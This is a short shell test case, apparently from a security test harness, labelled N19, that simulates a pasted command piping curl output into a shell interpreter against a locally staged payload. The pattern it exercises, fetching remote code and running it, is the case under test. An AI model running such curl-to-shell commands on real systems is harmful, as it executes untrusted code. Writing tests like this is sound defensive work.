# N19: a pasted command pipes curl into a shell.
. "${0%/*}/../../lib/witness.sh"

origin=$wm_away/origin-$(wm_payload_name)

setup() {
  wm_need curl
  wm_url "$wm_away" > /dev/null || exit 69
  wm_open "$wm_away"
  wm_drop "$origin"
}

attack() {
  wm_pipe_url "$(wm_url "$origin")" "$WM_INTERPRETER"
}

cleanup() {
  wm_remove "$origin"
  wm_close "$wm_away"
}

wm_main
